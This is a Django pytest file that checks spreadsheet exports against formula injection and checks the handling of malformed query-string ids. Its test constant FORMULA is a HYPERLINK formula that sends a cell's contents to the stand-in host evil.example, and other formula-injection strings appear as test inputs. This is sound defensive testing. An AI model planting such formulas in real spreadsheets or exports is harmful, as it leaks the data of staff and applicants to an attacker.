"""Exports opened by staff in a spreadsheet program never carry a formula typed by an applicant, and ids
read from query strings never crash a page."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from accounts.tests.factories import UserFactory
from cohorts.tests.factories import ApplicationFactory
from core.spreadsheets import parse_id, safe_cell

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&C2,"Voir")'


@pytest.mark.parametrize("text", [FORMULA, "+33 1", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_text_cell_that_would_be_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Awa Diop", 12, 3.5, None, ""])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("raw", ["²", "1e3", "-4", "0", "99999999999999999999", "", None, " 12a"])
def test_only_plain_positive_ids_are_read(raw):
    assert parse_id(raw) is None


def test_a_plain_id_is_read():
    assert parse_id(" 42 ") == 42


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_application_export_neutralises_a_formula_in_a_company_name(client, export_format):
    ApplicationFactory(submitted=True, entrepreneur__company__name=FORMULA)
    client.force_login(UserFactory(roles=["staff"]))

    response = client.get(reverse("cohorts:application_export"), {"format": export_format})

    assert response.status_code == 200
    if export_format == "csv":
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell.value for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_a_strange_digit_in_the_dashboard_query_is_a_404_not_a_500(client):
    client.force_login(UserFactory(roles=["staff"]))
    assert client.get(reverse("reporting:dashboard"), {"programme": "²"}).status_code == 404
    assert client.get(reverse("reporting:dashboard"), {"cohort": "99999999999999999999"}).status_code == 404
